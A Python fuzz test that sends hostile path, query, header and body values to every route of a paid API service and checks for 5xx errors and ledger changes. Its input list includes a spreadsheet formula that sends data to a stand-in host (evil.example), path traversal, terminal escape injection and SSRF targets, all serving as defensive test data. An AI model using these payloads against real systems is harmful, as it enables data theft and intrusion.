"""Hostile-input fuzz over every route of the app's router (a new route is fuzzed without editing this
file): hostile path parameters, query parameters, headers (raw bytes included) and JSON body fields —
control characters, a final newline, Unicode digits and look-alikes, lone surrogates, 10 KB values,
NaN/Infinity, 2^53+1, negative zero — sent unsigned, signed by a funded account, with a spending token
or the admin token. Never a 5xx; a refused request never changes the ledger; the books reconcile.

Seeded (derandomized) and bounded: a few examples per route, well under a minute in all.
"""
from __future__ import annotations

import base64
import json
import secrets
import time
import urllib.parse
from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, Phase, given, settings as hsettings, strategies as st

from service import protocol as P
from service.client import PaidSession
from tests.conftest import ADMIN_TOKEN
from tests.test_hostile_input import raw_request

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES_PER_ROUTE = 30


def _routes() -> list[tuple[str, str]]:
    """(method, path template) of every route the app serves, read from its router."""
    from service.app import create_app
    from service.config import Settings

    app = create_app(Settings(redis_url="redis://127.0.0.1:1/0"))
    out = []
    for route in app.router.routes():
        if route.method in ("HEAD", "OPTIONS", "*"):
            continue
        out.append((route.method, route.resource.canonical))
    return sorted(set(out))


@lru_cache(maxsize=1)
def _spec() -> dict[str, Any]:
    return yaml.safe_load((ROOT / "openapi.yaml").read_text())


def _body_fields(method: str, path: str) -> list[str]:
    op = _spec()["paths"].get(path, {}).get(method.lower(), {})
    schema = op.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema", {})
    if "$ref" in schema:
        schema = _spec()["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    return sorted(schema.get("properties", {}))


def _query_names(method: str, path: str) -> list[str]:
    op = _spec()["paths"].get(path, {}).get(method.lower(), {})
    return [p["name"] for p in op.get("parameters", []) if p.get("in") == "query"]


NASTY = [
    "admin\n", "microtasks\n", "root\r", "ADMIN", "\u0430dmin", "ad\u200bmin", "ＡＤＭＩＮ", "admin\x00", "\n",
    "\u00b2", "\u0663\u0663", "１２", "٣", "\u2167", "0x10", "1e3", "-0", "+1", " 1", "1 ", "9007199254740993",
    "-9223372036854775809", "\ud800", "a\udfffb", "\x1b[2K\x1b]52;c;ZXZpbA==\x07", "\x9b31m", "\u202egnp.exe",
    '=HYPERLINK("http://evil.example/?x="&A1,"c")', "NaN", "Infinity", "../../etc/passwd", "%00", "%ff", "{id}",
    "x" * 10_240, "", " ", "keep\n", "charity:coincenter\n", "https://127.0.0.1/hook", "http://[::1]:6379/",
    "q_" + "0" * 20, "tk_0123456789abcdef", "rn_0123456789abcdef",
]
NUMBERS = [float("nan"), float("inf"), float("-inf"), 2 ** 53 + 1, -0.0, 0, -1, 2 ** 64, 10 ** 30, 1e308, 0.1,
           21_000_000 * 100_000_000 + 1, True, None]
text = st.one_of(st.sampled_from(NASTY), st.sampled_from(NASTY),
                 st.text(st.characters(blacklist_categories=()), min_size=1, max_size=40),  # surrogates, controls
                 st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.sampled_from(NASTY)))
scalar = st.one_of(text, st.sampled_from(NUMBERS), st.integers(), st.floats())
json_value = st.recursive(scalar, lambda c: st.lists(c, max_size=3) | st.dictionaries(text, c, max_size=3), max_leaves=6)
HEADER_NAMES = [P.AUTHORIZATION, P.BITCOIN_TRANSFER, P.BITCOIN_TRANSFER, P.PAYMENT_SIGNATURE, P.PAYMENT_SIGNATURE, P.BITCOIN_TRANSACTION, P.IDEMPOTENCY_KEY,
                P.PAYMENT_AMOUNT, P.NONCE, "X-Forwarded-For", P.REQUEST_ID, "Accept", "Content-Type", "Cookie"]
HEADER_NASTY = [b"Bearer \xff\xfe", b"MT-Sig someone:\xc2\xb2:AAAA", b"MT-Sig someone:\xd9\xa3:AAAA",
                b"Token tk_0123456789abcdef.\xff\xfe", b"MT-Sig a:1:" + b"A" * 7000, b"\xed\xa0\x80", b"1.2.3.4, \xff",
                b"MT-Sig admin\x00:1:AA", b"Token " + b"x" * 300, b"NaN", b"-0", b"\xef\xbc\x91\xef\xbc\x92",
                b'{"amount": NaN, "payer": "admin\\n", "timestamp": 1e400, "nonce": "\\ud800"}',
                b'{"amount": 9007199254740993, "payer": -0.0, "description": [], "invoice": "inv_\xc2\xb2_a_b"}',
                base64.b64encode(b'{"x402Version": 2, "accepted": {"amount": NaN}, "payload": {"transfer": "\\udfff"}}'),
                base64.b64encode(b'{"x402Version": Infinity, "accepted": [], "payload": null}')]
header_bytes = st.one_of(
    st.sampled_from(HEADER_NASTY), st.sampled_from(HEADER_NASTY),
    text.map(lambda t: t.encode("utf-8", "surrogatepass")),
    st.binary(min_size=1, max_size=64),
).map(lambda b: b.replace(b"\r", b"").replace(b"\n", b"")[:8000])


MANIFEST = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n"
# a valid body per route, mutated field by field: hostile values then reach the handler past the schema
VALID_BODIES: dict[tuple[str, str], dict[str, Any]] = {
    ("PUT", "/v1/experts/me"): {"display_name": "E", "price": 5, "bio": "b", "tags": ["go"]},
    ("POST", "/v1/lists"): {"name": "fuzz-other", "price": 5},
    ("POST", "/v1/accounts/me/tokens"): {"max_total": 100, "routes": ["/v1/qa/validate"], "label": "l"},
    ("PUT", "/v1/accounts/me/payout"): {"payout": "keep"},
    ("POST", "/v1/accounts/me/withdrawals"): {"amount": 20_000, "address": "tb1qx3ppj0smkuy3d6g525sh9n2w9k7fm7q3vh5ssm"},
    ("POST", "/v1/qa/runners"): {"labels": {"arch": "amd64"}},
    ("POST", "/v1/qa/jobs"): {"title": "t", "reward": 10, "results_wanted": 1, "manifests": MANIFEST},
    ("POST", "/v1/qa/jobs/claim"): {"runner": "rn_0123456789abcdef", "wait": 0},
    ("POST", "/v1/admin/credits"): {"username": "{me}", "amount": 1, "reason": "r"},
    ("POST", "/v1/admin/accounts"): {"username": "fuzzer", "pubkey": "02" + "11" * 32},
    ("POST", "/v1/accounts"): {"username": "fuzzer", "pubkey": "02" + "11" * 32},
    ("POST", "/v1/qa/runs"): {"suite": "schema", "manifests": MANIFEST, "webhook": "https://93.184.216.34/h"},
    ("POST", "/v1/experts/{username}/questions"): {"text": "q"},
    ("POST", "/v1/experts/{username}/hire-requests"): {"text": "q"},
    ("POST", "/v1/questions/{id}/reply"): {"text": "r", "answers": {"n": 1}},
    ("POST", "/v1/lists/{name}/questions"): {"text": "q", "max_responses": 1, "form": [{"id": "n", "type": "number",
                                                                                        "label": "n"}]},
    ("POST", "/v1/qa/jobs/{id}/result"): {"runner": "rn_0123456789abcdef", "status": "passed"},
}
REAL_PARAMS = {"username": "{me}", "name": "fuzz-list", "id": "q_00000000000000000000", "rid": "r1"}


def _quote(value: str) -> str:
    return urllib.parse.quote(value.encode("utf-8", "surrogatepass"), safe="")


@st.composite
def hostile_request(draw: Any, method: str, path: str) -> dict[str, Any]:
    params = {}
    for part in path.split("/"):
        if part.startswith("{") and part.endswith("}"):
            name = part[1:-1]
            params[name] = draw(st.one_of(text.filter(bool), st.just(REAL_PARAMS.get(name, "me")),
                                          st.just(REAL_PARAMS.get(name, "me"))))
    real_path = path
    for name, value in params.items():
        real_path = real_path.replace("{" + name + "}", _quote(value), 1)
    query_names = _query_names(method, path) + ["limit", "x"]
    query = draw(st.dictionaries(st.sampled_from(query_names), text, max_size=3))
    target = real_path + ("?" + "&".join(f"{_quote(k)}={_quote(v)}" for k, v in query.items()) if query else "")
    fields = _body_fields(method, path) + ["username", "amount", "id"]
    valid = VALID_BODIES.get((method, path))
    body_kind = draw(st.sampled_from(["mutated"] * 4 * bool(valid) + ["fields", "fields", "none", "raw", "json"]))
    if body_kind == "mutated":
        mutated = dict(valid)
        for field in draw(st.lists(st.sampled_from(sorted(set(fields) | set(valid))), min_size=1, max_size=2)):
            mutated[field] = draw(json_value)
        body = json.dumps(mutated, allow_nan=True).encode("utf-8", "surrogatepass")
    elif body_kind == "fields":
        body = json.dumps(draw(st.dictionaries(st.sampled_from(fields), json_value, min_size=1, max_size=len(fields))),
                          allow_nan=True).encode("utf-8", "surrogatepass")
    elif body_kind == "json":
        body = json.dumps(draw(json_value), allow_nan=True).encode("utf-8", "surrogatepass")
    elif body_kind == "raw":
        body = draw(st.binary(max_size=256))
    else:
        body = b""
    # half the requests carry no odd header, so hostile bodies and parameters get past the header checks
    headers = draw(st.one_of(st.just({}), st.dictionaries(st.sampled_from(HEADER_NAMES), header_bytes, min_size=1,
                                                           max_size=3)))
    auth = draw(st.sampled_from(["nasty", "signed", "signed", "signed", "admin", "token", "as drawn"]))
    if auth == "nasty":
        headers[P.AUTHORIZATION] = draw(st.one_of(st.sampled_from(HEADER_NASTY), header_bytes))
    return {"target": target, "body": body, "headers": headers, "auth": auth}


def _examples(method: str, path: str) -> list[dict[str, Any]]:
    """The same requests on every run (derandomized): drawn once, then sent by the async test."""
    drawn: list[dict[str, Any]] = []

    @hsettings(max_examples=EXAMPLES_PER_ROUTE, derandomize=True, deadline=None, database=None,
               phases=[Phase.generate], suppress_health_check=list(HealthCheck))
    @given(req=hostile_request(method, path))
    def collect(req: dict[str, Any]) -> None:
        drawn.append(req)

    collect()
    return drawn


def _encode_headers(headers: dict[str, bytes]) -> list[tuple[bytes, bytes]]:
    return [(k.encode(), v) for k, v in headers.items()]


@pytest.mark.parametrize("method,path", _routes(), ids=lambda v: v if isinstance(v, str) else None)
async def test_no_route_answers_5xx_or_moves_money_on_hostile_input(method, path, http, base_url, funded, ledger):
    wallet = await funded(50_000)
    async with PaidSession(wallet, session=http) as s:
        status, token = await s.signed("POST", f"{base_url}/v1/accounts/me/tokens", {"max_total": 10_000})
        assert status == 201, token
        status, body = await s.signed("PUT", f"{base_url}/v1/experts/me", {"display_name": "F", "price": 5})
        assert status == 200, body
        status, body = await s.signed("POST", f"{base_url}/v1/lists", {"name": "fuzz-list", "price": 5})
        assert status == 201, body

    for req in _examples(method, path):
        req = {**req, "target": req["target"].replace(_quote("{me}"), wallet.username),
               "body": req["body"].replace(b"{me}", wallet.username.encode())}
        headers = dict(req["headers"])
        if req["auth"] == "signed":  # the funded account signs the exact bytes sent
            ts, nonce = str(int(time.time())), secrets.token_urlsafe(12)
            message = P.request_message(method, req["target"], ts, req["body"], nonce, origin=P.origin_of(base_url))
            headers[P.AUTHORIZATION] = f"{P.SIG_SCHEME} {wallet.username}:{ts}:{wallet.sign(message)}".encode()
            headers[P.NONCE] = nonce.encode()
        elif req["auth"] == "admin":
            headers[P.AUTHORIZATION] = f"Bearer {ADMIN_TOKEN}".encode()
        elif req["auth"] == "token":
            headers[P.AUTHORIZATION] = f"{P.TOKEN_SCHEME} {token['token']}".encode()
        journal = await ledger.redis.xlen(ledger.journal_key)
        status, body = await raw_request(base_url, method, req["target"].encode(), _encode_headers(headers), req["body"])
        assert status < 500, (method, req, status, body)
        if not 200 <= status < 300:  # nothing moved: no entry, or (refused after the hold) a hold and its void
            added = await ledger.redis.xlen(ledger.journal_key) - journal
            entries = [e for _, e in await ledger.redis.xrevrange(ledger.journal_key, count=added)] if added else []
            held = sorted(e["id"] for e in entries if e["op"] == "pend")
            assert held == sorted(e["id"] for e in entries if e["op"] == "void") and len(entries) == 2 * len(held), \
                (method, req, status, body, entries)
    assert (await ledger.reconcile()).ok
